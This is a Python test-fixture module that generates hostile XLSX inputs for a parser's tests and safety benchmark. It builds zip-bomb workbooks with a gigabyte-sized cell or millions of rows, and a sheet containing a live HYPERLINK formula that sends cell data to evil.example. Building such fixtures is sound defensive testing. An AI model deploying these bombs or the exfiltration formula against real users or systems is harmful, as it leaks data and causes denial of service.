"""Hostile inputs shared by the tests and ``benchmarks/safety_bench.py``: zip bombs, formula workbooks, huge rows.

Everything is generated (nothing is downloaded); sizes are parameters so the suite uses small ones and the
benchmark the sizes of the security report (a 1 GiB cell, 20 million rows).
"""

from __future__ import annotations

import zipfile
import zlib
from pathlib import Path

_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    "</Types>"
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WB_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet1.xml"/></Relationships>'
)
_SHEET_HEAD = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
_SHEET_TAIL = "</sheetData></worksheet>"


def _write_streamed(zf: zipfile.ZipFile, name: str, pieces) -> None:  # noqa: ANN001
    with zf.open(zipfile.ZipInfo(name), "w", force_zip64=True) as fh:
        for p in pieces:
            fh.write(p)


def _xlsx(path: Path, sheet_pieces) -> Path:  # noqa: ANN001
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr("[Content_Types].xml", _CONTENT_TYPES)
        zf.writestr("_rels/.rels", _RELS)
        zf.writestr("xl/workbook.xml", _WORKBOOK)
        zf.writestr("xl/_rels/workbook.xml.rels", _WB_RELS)
        info = zipfile.ZipInfo("xl/worksheets/sheet1.xml")
        info.compress_type = zipfile.ZIP_DEFLATED
        with zf.open(info, "w", force_zip64=True) as fh:
            for p in sheet_pieces:
                fh.write(p)
    return path


def big_cell_xlsx(path: Path, cell_bytes: int) -> Path:
    """One inline-string cell of ``cell_bytes`` letters (1 GiB compresses to ~1 MB)."""
    block = b"A" * (1 << 20)

    def pieces():
        yield (_SHEET_HEAD + '<row r="1"><c r="A1" t="inlineStr"><is><t>').encode()
        left = cell_bytes
        while left > 0:
            n = min(left, len(block))
            yield block[:n]
            left -= n
        yield ("</t></is></c></row>" + _SHEET_TAIL).encode()

    return _xlsx(path, pieces())


def many_rows_xlsx(path: Path, rows: int) -> Path:
    """``rows`` rows with one short number each (20 million compress to a few MB)."""

    def pieces():
        yield _SHEET_HEAD.encode()
        batch = []
        for r in range(1, rows + 1):
            batch.append(f'<row r="{r}"><c r="A{r}"><v>1</v></c></row>')
            if len(batch) == 10_000:
                yield "".join(batch).encode()
                batch = []
        if batch:
            yield "".join(batch).encode()
        yield _SHEET_TAIL.encode()

    return _xlsx(path, pieces())


def formula_xlsx(path: Path) -> Path:
    """A name list with a live ``=HYPERLINK`` exfiltration formula and a formula without a cached value."""
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.append(["Pakalpojuma nosaukums", "Piezīmes"])
    ws.append(["Pases izsniegšana", '=HYPERLINK("http://evil.example/?d="&A2,"Klikšķiniet")'])
    ws.append(['="Būvatļaujas "&"izsniegšana"', ""])  # a formula with no cached value in the name column
    ws.append(["Dzīvesvietas deklarēšana", "=1+1"])
    wb.save(path)
    return path


def deflate_ratio(data: bytes) -> float:
    return len(data) / max(1, len(zlib.compress(data, 9)))
